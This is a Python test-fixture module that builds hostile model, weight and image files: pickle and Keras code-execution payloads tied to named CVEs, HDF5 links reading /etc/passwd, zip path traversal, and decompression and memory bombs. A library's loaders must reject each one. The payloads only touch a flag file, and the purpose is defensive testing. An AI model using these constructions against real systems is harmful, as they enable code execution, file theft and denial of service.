"""Files that were made to run code, to read other files or to take memory for the asking: one function a file.

`FILES` is `{name: (function of a path, what it tries)}`; the name's suffix is the file's. Each opener of the library has to refuse each
of them with ValueError, without any of what it tries.
"""

import io
import json
import os
import pickle
import struct
import zipfile
import zlib

import cv2
import h5py
import numpy as np

FLAG = "FACE_HOSTILE_FLAG"  # environment variable: a file that must not come to be
FILES = {}


def flag() -> str:
    """The file that code of a hostile file would write."""
    return os.environ[FLAG]


def hostile(name, tries):
    """Adds a function of a path to `FILES`."""

    def add(make):
        FILES[name] = (make, tries)
        return make

    return add


def put(path, data):
    with open(path, "wb") as file:
        file.write(data)


# ------------------------------------------------------------------------------------------------------------- pickles


def glob(module, name):
    return f"c{module}\n{name}\n".encode()


def short(data):
    return b"C" + bytes([len(data)]) + data


def text(value):
    return b"\x8c" + bytes([len(value)]) + value.encode()


def dtype(name):
    return glob("numpy", "dtype") + text(name) + b"\x89\x88\x87R"


def bin_of(image):
    """(images, issame) of a pickled object and a good image."""
    return b"\x80\x04](" + image + short(b"\xff\xd8x") + b"e]\x88a\x86."


class Calls:
    """Pickles as a call of a function."""

    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


@hostile("calls.bin", "code")
def calls_bin(path):
    put(path, pickle.dumps(([Calls(open, flag(), "w"), b"x"], [True])))


@hostile("system.bin", "code")
def system_bin(path):
    put(path, pickle.dumps(([Calls(os.system, f"touch {flag()}"), b"x"], [True]), 0))


@hostile("objects.bin", "crash")
def objects_bin(path):
    """Raw bytes as pointers to objects, by a dtype that is told anew that it holds none."""
    state = b"(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    buffer = (
        glob("numpy.core.numeric", "_frombuffer")
        + b"("
        + short(b"\x41" * 64)
        + dtype("O8")
        + state
        + b"K\x08\x85"
        + text("C")
        + b"tR"
    )
    put(path, b"\x80\x04](" + short(b"\xff\xd8x") * 16 + b"e" + buffer + b"\x86.")


@hostile("scalar.bin", "crash")
def scalar_bin(path):
    put(path, bin_of(glob("numpy.core.multiarray", "scalar") + dtype("O8") + short(b"\x41" * 8) + b"\x86R"))


@hostile("huge_array.bin", "memory")
def huge_array_bin(path):
    put(
        path,
        bin_of(
            glob("numpy", "ndarray")
            + b"\x8a\x05"
            + struct.pack("<q", 3_000_000_000)[:5]
            + b"\x85"
            + text("u1")
            + b"\x86R"
        ),
    )


@hostile("huge_bytes.bin", "memory")
def huge_bytes_bin(path):
    put(path, bin_of(glob("builtins", "bytearray") + b"\x8a\x05" + struct.pack("<q", 3_000_000_000)[:5] + b"\x85R"))


@hostile("huge_bytearray8.bin", "memory")
def huge_bytearray8_bin(path):
    put(path, bin_of(b"\x96" + struct.pack("<Q", 3_000_000_000) + b"x"))


@hostile("lists.bin", "memory")
def lists_bin(path):
    put(path, b"\x80\x04" + b"]" * 8_000_000 + b".")


@hostile("many_views.bin", "memory")
def many_views_bin(path):
    """A thousand million empty images."""
    empty = (
        glob("numpy.core.numeric", "_frombuffer")
        + b"("
        + short(b"")
        + dtype("u1")
        + b"J\x00\xca\x9a\x3bK\x00\x86"
        + text("C")
        + b"tR"
    )
    put(path, b"\x80\x04" + empty + b"]\x88a\x86.")


@hostile("many_copies.bin", "memory")
def many_copies_bin(path):
    """One array that stands in a hundred thousand pairs."""
    array = (
        glob("numpy.core.numeric", "_frombuffer")
        + b"(B"
        + struct.pack("<I", 20_000)
        + bytes(20_000)
        + dtype("u1")
        + b"M\x20\x4e\x85"
        + text("C")
        + b"tRq\x01"
    )
    put(path, b"\x80\x04](" + array + b"h\x01" * 99_999 + b"e](" + b"\x88" * 50_000 + b"e\x86.")


@hostile("deep.bin", "crash")
def deep_bin(path):
    """A tuple in a tuple … as a key: its hash would run over the stack."""
    put(path, b"\x80\x04}N" + b"\x85" * 150_000 + b"Ns.")


@hostile("build.bin", "crash")
def build_bin(path):
    """A state for a function."""
    put(path, bin_of(glob("numpy.core.multiarray", "_reconstruct") + b"}" + text("__doc__") + b"Nsb"))


@hostile("empty_array.bin", "error")
def empty_array_bin(path):
    """Found by fuzzing: an array that never gets its content."""
    array = (
        glob("numpy.core.multiarray", "_reconstruct") + glob("numpy", "ndarray") + b"K\x00\x85" + short(b"b") + b"\x87R"
    )
    put(path, b"\x80\x04" + array + array + b"\x86.")


# --------------------------------------------------------------------------------------------------------------- torch


def torch_file(path, pickled, storages, compress=zipfile.ZIP_STORED):
    with zipfile.ZipFile(path, "w", compress) as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/version", "3\n")
        for key, data in storages.items():
            archive.writestr(f"archive/data/{key}", data)


def tensor(offset, size, stride, count):
    """Pickle of {"fc.weight": one tensor} over storage 0."""
    integer = lambda n: b"\x8a\x08" + struct.pack("<q", n)  # noqa: E731
    several = lambda numbers: b"(" + b"".join(map(integer, numbers)) + b"t"  # noqa: E731
    storage = (
        b"(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpu"
        + integer(count)
        + b"tQ"
    )
    hooks = b"\x89ccollections\nOrderedDict\n)R"
    rebuilt = (
        b"ctorch._utils\n_rebuild_tensor_v2\n("
        + storage
        + integer(offset)
        + several(size)
        + several(stride)
        + hooks
        + b"tR"
    )
    return b"\x80\x02}X\x09\x00\x00\x00fc.weight" + rebuilt + b"s."


@hostile("before.pt", "read")
def before_pt(path):
    torch_file(path, tensor(-3, [4], [1], 8), {"0": bytes(32)})


@hostile("behind.pt", "read")
def behind_pt(path):
    torch_file(path, tensor(0, [1000], [1], 1000), {"0": bytes(32)})


@hostile("backwards.pt", "read")
def backwards_pt(path):
    torch_file(path, tensor(0, [8], [-100], 8), {"0": bytes(32)})


@hostile("stride_0.pt", "memory")
def stride_0_pt(path):
    torch_file(path, tensor(0, [40_000, 36_000], [0, 0], 8), {"0": bytes(32)})


@hostile("overlap.pt", "memory")
def overlap_pt(path):
    torch_file(path, tensor(0, [40_000, 36_000], [1, 1], 76_000), {"0": bytes(4 * 76_000)})


@hostile("bomb.pt", "memory")
def bomb_pt(path):
    torch_file(path, tensor(0, [250_000_000], [1], 250_000_000), {"0": bytes(1_000_000_000)}, zipfile.ZIP_DEFLATED)


@hostile("lists.pt", "error")
def lists_pt(path):
    torch_file(path, pickle.dumps({"fc.weight": [1, 2], "layer1.0.conv1.weight": [[3]]}, 2), {})


@hostile("list.pt", "error")
def list_pt(path):
    torch_file(path, pickle.dumps([1, 2], 2), {})


@hostile("calls.pt", "code")
def calls_pt(path):
    torch_file(path, pickle.dumps({"a": Calls(open, flag(), "w")}, 2), {})


@hostile("legacy.pt", "error")
def legacy_pt(path):
    put(
        path, pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    )


@hostile("junk.pt", "error")
def junk_pt(path):
    put(path, bytes(range(256)) * 4)


# -------------------------------------------------------------------------------------------------------------- images


def png(width, height, rows=0):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes((1 + 3 * width) * rows), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def small_jpeg():
    yes, data = cv2.imencode(".jpg", np.random.default_rng(0).integers(0, 255, (112, 112, 3), np.uint8))
    return data.tobytes()


@hostile("huge.png", "memory")
def huge_png(path):
    put(path, png(32_000, 32_000, 1200))


@hostile("chunk.png", "memory")
def chunk_png(path):
    """Found by fuzzing: a chunk that claims a gigabyte, in a small picture."""
    data = bytearray(cv2.imencode(".png", np.zeros((40, 40, 3), np.uint8))[1].tobytes())
    at = data.index(b"IDAT") - 4
    data[at : at + 4] = struct.pack(">I", 1 << 30)
    put(path, bytes(data))


@hostile("huge.jpg", "memory")
def huge_jpg(path):
    data = bytearray(small_jpeg()[:700])
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 26_000, 26_000)
    put(path, bytes(data) + b"\xff\xd9")


@hostile("half.jpg", "truth")
def half_jpg(path):
    data = small_jpeg()
    put(path, data[: len(data) // 2] + b"\xff\xd9")


@hostile("huge.bmp", "memory")
def huge_bmp(path):
    put(path, b"BM" + bytes(12) + struct.pack("<IiiHHIIiiII", 40, 30_000, 30_000, 1, 24, 0, 0, 0, 0, 0, 0) + bytes(100))


@hostile("huge.gif", "memory")
def huge_gif(path):
    put(
        path,
        b"GIF89a"
        + struct.pack("<HHBBB", 60_000, 60_000, 0, 0, 0)
        + b","
        + struct.pack("<HHHHB", 0, 0, 60_000, 60_000, 0)
        + b"\x02\x02\x4c\x01\x00;",
    )


@hostile("huge.ppm", "memory")
def huge_ppm(path):
    put(path, b"P6\n30000 30000\n255\n" + bytes(100))


@hostile("huge.webp", "memory")
def huge_webp(path):
    size = struct.pack("<I", (16_383 - 1) | (16_383 - 1) << 14)
    put(path, b"RIFF" + struct.pack("<I", 30) + b"WEBPVP8L" + struct.pack("<I", 18) + b"\x2f" + size + bytes(13))


@hostile("huge.tif", "memory")
def huge_tif(path):
    tags = [(256, 40_000), (257, 40_000), (258, 8), (259, 1), (262, 1), (273, 8), (277, 1), (278, 40_000), (279, 100)]
    body = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    put(path, b"II*\0" + struct.pack("<IH", 8, len(tags)) + body + bytes(104))


# --------------------------------------------------------------------------------------------------------------- Keras


def layer(kind, name, config=None, module="keras.layers", inbound=(), **more):
    config = {"name": name, "trainable": True, **(config or {})}
    return {"module": module, "class_name": kind, "config": config, "registered_name": None, "name": name,
            "inbound_nodes": list(inbound), **more}  # fmt: skip


def keras_tensor(name, shape):
    config = {"shape": shape, "dtype": "float32", "keras_history": [name, 0, 0]}
    return {"class_name": "__keras_tensor__", "config": config}


def network(*layers, output="out"):
    """Image → the given layers → output, as Keras writes a functional model."""
    begin = layer("InputLayer", "in", {"batch_shape": [None, 4], "dtype": "float32"})
    config = {
        "name": "m",
        "trainable": True,
        "layers": [begin, *layers],
        "input_layers": [["in", 0, 0]],
        "output_layers": [[output, 0, 0]],
    }
    about = {"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional"}
    return {**about, "config": config, "build_config": {"input_shape": [None, 4]}}


def after(name, shape=(None, 4)):
    return [{"args": [keras_tensor(name, list(shape))], "kwargs": {}}]


def dense(name="out", units=4, source="in", shape=(None, 4)):
    return layer(
        "Dense", name, {"units": units, "activation": "linear", "use_bias": True}, inbound=after(source, shape)
    )


def keras_file(path, config, weights=lambda file: None):
    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        weights(file)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", content.getvalue())


def good_weights(file):
    group = file.create_group("layers/dense/vars")
    group["0"], group["1"] = np.eye(4, dtype=np.float32), np.zeros(4, np.float32)


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


LAMBDA = {
    "class_name": "__lambda__",
    "config": {"value": "4wEAAAAAAAAAAAAAAAEAAABTAAAA", "defaults": None, "closure": None},
}


@hostile("lambda.keras", "code")
def lambda_keras(path):
    """CVE-2024-3660 in today's format."""
    keras_file(path, network(layer("Lambda", "out", {"function": LAMBDA, "arguments": {}}, inbound=after("in"))))


@hostile("function.keras", "code")
def function_keras(path):
    """CVE-2025-1550: a module and a function of the file's choice, called while the layers are made."""
    call = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    node = [{"args": [f"touch {flag()}"], "kwargs": {}}]
    keras_file(path, network({**call, "name": "evil", "inbound_nodes": node}, dense()), good_weights)


@hostile("get_file.keras", "code")
def get_file_keras(path):
    """CVE-2025-8747: the same with a function of Keras's own, which downloads and unpacks."""
    call = {**function("keras.utils", "get_file"), "name": "evil"}
    node = [
        {
            "args": ["x"],
            "kwargs": {"origin": f"file://{os.path.abspath(__file__)}", "cache_dir": os.path.dirname(flag())},
        }
    ]
    keras_file(path, network({**call, "inbound_nodes": node}, dense()), good_weights)


@hostile("unsafe.keras", "code")
def unsafe_keras(path):
    """CVE-2025-9906: `keras.config.enable_unsafe_deserialization`, then a Lambda."""
    call = {
        **function("keras.config", "enable_unsafe_deserialization"),
        "name": "evil",
        "inbound_nodes": [{"args": [], "kwargs": {}}],
    }
    keras_file(path, network(call, layer("Lambda", "out", {"function": LAMBDA}, inbound=after("in"))))


@hostile("wrapper.keras", "code")
def wrapper_keras(path):
    """CVE-2025-49655: a pickle inside a layer for torch's modules."""
    module = {"class_name": "__bytes__", "config": {"value": "gASV"}}
    keras_file(path, network(layer("TorchModuleWrapper", "out", {"module": module}, inbound=after("in"))))


@hostile("saved_model_layer.keras", "code")
def saved_model_layer_keras(path):
    keras_file(
        path, network(layer("TFSMLayer", "out", {"filepath": "/tmp", "call_endpoint": "serve"}, inbound=after("in")))
    )


@hostile("switch.keras", "code")
def switch_keras(path):
    """An operation without input calls a setting of Keras in its safe mode (Keras 3.15)."""
    arguments = [0, [function("keras.config", "set_dtype_policy")], "float16"]
    call = layer("Switch", "evil", module="keras.src.ops.core", inbound=[{"args": arguments, "kwargs": {}}])
    keras_file(path, network({**call, "registered_name": "Switch", "config": {"name": "evil"}}, dense()), good_weights)


@hostile("disguised_function.keras", "code")
def disguised_function_keras(path):
    """A function under the registered name of a class that is known: Keras looks functions up by another key."""
    call = {**function("keras.config", "set_dtype_policy"), "registered_name": "face>Mean"}
    keras_file(path, network(layer("Activation", "out", {"activation": call}, inbound=after("in"))))


@hostile("disguised_lambda.keras", "code")
def disguised_lambda_keras(path):
    config = {**LAMBDA, "module": "builtins", "registered_name": "face>Mean"}
    keras_file(path, network(layer("Activation", "out", {"activation": config}, inbound=after("in"))))


@hostile("split.keras", "memory")
def split_keras(path):
    """An operation of a hundred million outputs."""
    call = layer("Split", "out", {"indices_or_sections": 100_000_000, "axis": 0}, "keras.src.ops.numpy", after("in"))
    keras_file(path, network({**call, "registered_name": "Split"}))


@hostile("map.keras", "code")
def map_keras(path):
    call = layer("Map", "out", module="keras.src.ops.core")
    node = [{"args": [function("builtins", "relu"), keras_tensor("in", [None, 4])], "kwargs": {}}]
    keras_file(path, network({**call, "registered_name": "Map", "config": {"name": "out"}, "inbound_nodes": node}))


@hostile("unconnected.keras", "code")
def unconnected_keras(path):
    keras_file(path, network(dense("evil"), dense()), good_weights)


@hostile("huge_layer.keras", "memory")
def huge_layer_keras(path):
    keras_file(path, network(dense(units=200_000_000)), good_weights)


@hostile("huge_output.keras", "memory")
def huge_output_keras(path):
    shape = [{"args": [keras_tensor("in", [None, 4])], "kwargs": {}}]
    steps = layer("Reshape", "map", {"target_shape": [2, 2, 1]}, inbound=shape)
    larger = layer("UpSampling2D", "out", {"size": [100_000, 100_000]}, inbound=after("map", (None, 2, 2, 1)))
    keras_file(path, network(steps, larger))


@hostile("huge_weights.keras", "memory")
def huge_weights_keras(path):
    """CVE-2026-0897: a data set that claims gigabytes and holds nothing."""
    keras_file(
        path, network(dense()), lambda file: file.create_dataset("layers/dense/vars/0", (1_000_000, 1_000), "f4")
    )


@hostile("filled_weights.keras", "memory")
def filled_weights_keras(path):
    def weights(file):
        file.create_dataset(
            "layers/dense/vars/0", (1_000_000, 500), "f4", chunks=(100_000, 500), compression="gzip", fillvalue=1.0
        )

    keras_file(path, network(dense()), weights)


@hostile("external.keras", "read")
def external_keras(path):
    """CVE-2026-1669: weights that lie in a file of the reader's."""

    def weights(file):
        file.create_dataset("layers/dense/vars/0", (4, 4), "f4", external=[("/etc/passwd", 0, 64)])

    keras_file(path, network(dense()), weights)


@hostile("external_link.keras", "read")
def external_link_keras(path):
    def weights(file):
        file["layers"] = h5py.ExternalLink("/tmp/other.h5", "/layers")

    keras_file(path, network(dense()), weights)


@hostile("soft_link.keras", "read")
def soft_link_keras(path):
    def weights(file):
        good_weights(file)
        file["more"] = h5py.SoftLink("/layers")

    keras_file(path, network(dense()), weights)


@hostile("virtual.keras", "read")
def virtual_keras(path):
    def weights(file):
        layout = h5py.VirtualLayout((4, 4), "f4")
        layout[:] = h5py.VirtualSource("/tmp/other.h5", "x", (4, 4))
        file.create_virtual_dataset("layers/dense/vars/0", layout)

    keras_file(path, network(dense()), weights)


@hostile("cycle.keras", "hang")
def cycle_keras(path):
    def weights(file):
        file.create_group("a")["b"] = file["/"]
        file.create_dataset("x", (4,), "S4")

    keras_file(path, network(dense()), weights)


@hostile("nested.keras", "crash")
def nested_keras(path):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", "[" * 100_000 + "]" * 100_000)
        archive.writestr("metadata.json", "{}")


@hostile("outside.keras", "write")
def outside_keras(path):
    keras_file(path, network(dense()), good_weights)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("assets/../../../outside.txt", "x")


@hostile("bomb.keras", "memory")
def bomb_keras(path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", "{}")
        archive.writestr("config.json", " " * 1_000_000_000)


@hostile("junk.keras", "error")
def junk_keras(path):
    put(path, b"PK\x03\x04" + bytes(200))


def h5_file(path, config, extra=lambda file: None):
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"], file.attrs["backend"] = "2.15.0", "tensorflow"
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = np.array([b"in", b"out"])
        for name in ("in", "out"):
            group.create_group(name).attrs["weight_names"] = np.array([], "S1")
        extra(file)


def old_network(*layers):
    begin = {
        "class_name": "InputLayer",
        "config": {"name": "in", "batch_input_shape": [None, 4], "dtype": "float32"},
        "name": "in",
        "inbound_nodes": [],
    }
    config = {"name": "m", "layers": [begin, *layers], "input_layers": [["in", 0, 0]], "output_layers": [["out", 0, 0]]}
    return {"class_name": "Functional", "config": config}


def old_layer(kind, config, nodes=((("in", 0, 0, {}),),)):
    return {
        "class_name": kind,
        "config": {"name": "out", **config},
        "name": "out",
        "inbound_nodes": [[list(one) for one in node] for node in nodes],
    }


@hostile("lambda.h5", "code")
def lambda_h5(path):
    """CVE-2024-3660 and CVE-2025-9905: a Lambda in the old format, which Keras's safe mode did not look at."""
    h5_file(
        path, old_network(old_layer("Lambda", {"function": ["4wEAAAAAAAAA\n", None, None], "function_type": "lambda"}))
    )


@hostile("disguised_lambda.h5", "code")
def disguised_lambda_h5(path):
    """In files of Keras 2 the class alone counts, whatever is registered."""
    evil = old_layer("Lambda", {"function": ["4wEAAAAAAAAA\n", None, None], "function_type": "lambda"})
    h5_file(path, old_network({**evil, "registered_name": "face>Mean"}))


@hostile("operation.h5", "code")
def operation_h5(path):
    h5_file(
        path, old_network(old_layer("TFOpLambda", {"function": "io.write_file"}, [[["in", 0, 0, {"contents": "x"}]]]))
    )


@hostile("huge_layer.h5", "memory")
def huge_layer_h5(path):
    h5_file(path, old_network(old_layer("Dense", {"units": 200_000_000, "activation": "linear", "use_bias": True})))


@hostile("huge_weights.h5", "memory")
def huge_weights_h5(path):
    old = old_network(old_layer("Dense", {"units": 4, "activation": "linear"}))
    h5_file(path, old, lambda file: file.create_dataset("model_weights/out/kernel:0", (1_000_000, 1_000), "f4"))


@hostile("external_link.h5", "read")
def external_link_h5(path):
    def extra(file):
        file["optimizer_weights"] = h5py.ExternalLink("/tmp/other.h5", "/x")

    h5_file(path, old_network(old_layer("Dense", {"units": 4, "activation": "linear"})), extra)


@hostile("weights_only.h5", "error")
def weights_only_h5(path):
    with h5py.File(path, "w") as file:
        file["x"] = np.zeros(3)


@hostile("junk.h5", "error")
def junk_h5(path):
    put(path, b"\x89HDF\r\n\x1a\n" + bytes(200))


# ---------------------------------------------------------------------------------------------------------- ONNX, MXNet


def varint(value):
    out = b""
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def field(number, value):
    """Of bytes or text, else of an integer."""
    value = value.encode() if isinstance(value, str) else value
    return (
        varint(number << 3) + varint(value)
        if isinstance(value, int)
        else varint(number << 3 | 2) + varint(len(value)) + value
    )


def onnx_tensor(name, array):
    shape = b"".join(field(1, n) for n in array.shape)
    return shape + field(2, 1) + field(8, name) + field(9, array.astype("<f4").tobytes())


def onnx_node(kind, inputs, outputs, attributes=b""):
    return (
        b"".join(field(1, one) for one in inputs)
        + b"".join(field(2, one) for one in outputs)
        + field(3, outputs[0])
        + field(4, kind)
        + attributes
    )


def onnx_file(path, nodes, tensors=(), inputs=("x",), outputs=("y",)):
    graph = b"".join(field(1, one) for one in nodes) + b"".join(field(5, one) for one in tensors)
    graph += b"".join(field(11, field(1, one)) for one in inputs) + b"".join(
        field(12, field(1, one)) for one in outputs
    )
    put(path, field(1, 8) + field(7, graph))


KERNEL = onnx_tensor("w", np.ones((4, 3, 3, 3), np.float32))


@hostile("cycle.onnx", "truth")
def cycle_onnx(path):
    onnx_file(
        path,
        [onnx_node("Conv", ["x", "w"], ["a"]), onnx_node("Add", ["a", "y"], ["b"]), onnx_node("Relu", ["b"], ["y"])],
        [KERNEL],
    )


@hostile("incomplete.onnx", "truth")
def incomplete_onnx(path):
    """Of a batch normalisation without its statistics."""
    gamma = onnx_tensor("g", np.ones(4, np.float32))
    onnx_file(
        path,
        [onnx_node("Conv", ["x", "w"], ["a"]), onnx_node("BatchNormalization", ["a", "g", "m", "v", "s"], ["y"])],
        [KERNEL, gamma],
    )


@hostile("no_output.onnx", "error")
def no_output_onnx(path):
    onnx_file(path, [onnx_node("Conv", ["x", "w"], ["a"])], [KERNEL])


@hostile("junk.onnx", "error")
def junk_onnx(path):
    put(path, b"\x08\x07" + bytes(range(200)))


@hostile("empty.onnx", "error")
def empty_onnx(path):
    put(path, b"")


SYMBOL = {"nodes": [
    {"op": "null", "name": "data", "inputs": []}, {"op": "null", "name": "w", "inputs": []},
    {"op": "Convolution", "name": "conv", "attrs": {"kernel": "(3, 3)", "num_filter": "4", "no_bias": "True"},
     "inputs": [[0, 0, 0], [1, 0, 0]]},
    {"op": "Flatten", "name": "flat", "inputs": [[2, 0, 0]]},
]}  # fmt: skip


def symbol(path, **attrs):
    nodes = json.loads(json.dumps(SYMBOL))
    nodes["nodes"][2]["attrs"] |= attrs
    put(path, json.dumps(nodes).encode())


@hostile("filters.json", "memory")
def filters_json(path):
    symbol(path, num_filter="200000000")


@hostile("kernel.json", "memory")
def kernel_json(path):
    symbol(path, kernel="(50000, 50000)", pad="(50000, 50000)")


@hostile("overflow.params", "error")
def overflow_params(path):
    shape = struct.pack("<qq", 1 << 40, 1 << 40)
    array = struct.pack("<IiI", 0xF993FAC9, 0, 2) + shape + struct.pack("<iii", 1, 0, 0)
    put(path, struct.pack("<QQQ", 0x112, 0, 1) + array)


@hostile("count.params", "memory")
def count_params(path):
    put(path, struct.pack("<QQQ", 0x112, 0, 1 << 60) + bytes(64))


@hostile("bomb.npz", "memory")
def bomb_npz(path):
    np.savez_compressed(path, image_names=np.zeros(10_000_000, "U40"), image_classes=np.zeros(10_000_000, np.int64))


@hostile("characters.npz", "error")
def characters_npz(path):
    """Found by fuzzing: numbers in a text that are no characters."""
    names = np.array([0x110000, 0x7FFFFFFF], "<u4").view("<U1")
    np.savez(path, image_names=names, image_classes=np.zeros(2))


@hostile("scalar.npz", "error")
def scalar_npz(path):
    np.savez(path, image_names=np.array("a.jpg"), image_classes=np.array(3))


@hostile("objects.npz", "code")
def objects_npz(path):
    np.savez(path, image_names=np.array([Calls(open, flag(), "w")], object), image_classes=np.zeros(1))
